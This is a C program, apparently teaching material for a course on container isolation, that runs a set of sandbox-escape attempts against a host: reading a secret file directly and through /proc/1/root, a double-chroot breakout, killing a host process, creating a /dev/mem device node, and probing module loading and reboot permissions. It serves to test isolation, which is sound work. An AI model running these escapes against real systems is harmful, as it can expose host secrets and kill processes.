/* attack.c - the attacks of the course in one program: `attack SECRET VICTIM`.
 *
 * SECRET is the path of a file of the host, and VICTIM the number of a process of the host.
 * Each attempt is one line: its name, and what came of it: the secret that it read, "done", or
 * the error of the kernel. Whether an attempt that says "done" reached the host is for the host
 * to see: in a virtual machine one can kill a process 7, and it is another one.
 *
 * It runs as root, and as a plain process too. So it asks for nothing that breaks a host: to
 * load a module it gives no file, to restart it gives a wrong number, and the kernel says
 * whether it would have been allowed.
 *
 * Read on: the attacks of c02, c03, c04, c07 and c08, which this repeats.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *secret;
static pid_t victim;

static void says(const char *name, const char *what)
{
    printf("%s %s\n", name, what);
    (void)fflush(stdout); /* the next attempt runs in a child, or kills us */
}

/* Reads the secret at PATH and says it. */
static void read_secret(const char *name, const char *path)
{
    char text[128] = "";
    int file = open(path, O_RDONLY | O_CLOEXEC);
    ssize_t length = file == -1 ? -1 : read(file, text, sizeof text - 1);
    says(name, length > 0 ? text : strerror(errno));
    if (file != -1)
        (void)close(file); /* it was only read */
}

static void by_path(const char *name)
{
    read_secret(name, secret);
}

/* Through the root directory of process 1 (c03: whose /proc is it?). */
static void by_process_one(const char *name)
{
    char path[512];
    (void)snprintf(path, sizeof path, "/proc/1/root%s", secret);
    read_secret(name, path);
}

/* c02: a second chroot moves the root below the working directory, and .. goes on upwards. */
static void by_chroot(const char *name)
{
    if (chdir("/") == -1 || chroot("/tmp") == -1) {
        says(name, strerror(errno));
        return;
    }
    for (int i = 0; i < 64; i++)
        if (chdir("..") == -1)
            break;
    if (chroot(".") == -1)
        says(name, strerror(errno));
    else
        read_secret(name, secret);
}

/* c04: a process of the host. */
static void kill_victim(const char *name)
{
    says(name, kill(victim, SIGKILL) == 0 ? "done" : strerror(errno));
}

/* c07: a device node that is the memory of the machine. */
static void open_memory(const char *name)
{
    char path[64];
    (void)snprintf(path, sizeof path, "/tmp/attack-memory-%d", (int)getpid());
    int made = mknod(path, S_IFCHR | 0600, makedev(1, 1));
    int file = made == 0 ? open(path, O_RDONLY | O_CLOEXEC) : -1;
    says(name, file != -1 ? "done" : strerror(errno));
    if (file != -1)
        (void)close(file); /* nothing was read */
    if (made == 0)
        (void)unlink(path); /* /tmp of whoever ran us */
}

/* EBADF: it may load modules, and there was no file. EPERM: it may not. */
static void load_module(const char *name)
{
    (void)syscall(SYS_finit_module, -1, "", 0);
    says(name, errno == EBADF ? "done" : strerror(errno));
}

/* EINVAL: it may, and the number was wrong. EPERM: it may not. */
static void restart(const char *name)
{
    (void)syscall(SYS_reboot, 0, 0, 0, NULL);
    says(name, errno == EINVAL ? "done" : strerror(errno));
}

static const struct attack {
    const char *name;
    void (*attempt)(const char *name);
} attacks[] = {
    {"read-the-path", by_path},
    {"read-through-process-1", by_process_one},
    {"escape-chroot", by_chroot},
    {"kill-a-process", kill_victim},
    {"open-the-memory", open_memory},
    {"load-a-module", load_module},
    {"restart", restart},
};

int main(int argc, char **argv)
{
    if (argc != 3) {
        fprintf(stderr, "attack: attack SECRET VICTIM\n");
        return 2;
    }
    secret = argv[1];
    victim = (pid_t)strtol(argv[2], NULL, 10);
    for (size_t i = 0; i < sizeof attacks / sizeof *attacks; i++) {
        /* A child each: chroot cannot be undone, and a filter may kill. */
        int status = 0;
        pid_t pid = fork();
        if (pid == 0) {
            attacks[i].attempt(attacks[i].name);
            _exit(0);
        }
        if (pid == -1 || waitpid(pid, &status, 0) == -1 || status != 0)
            says(attacks[i].name, "killed");
    }
    return 0;
}
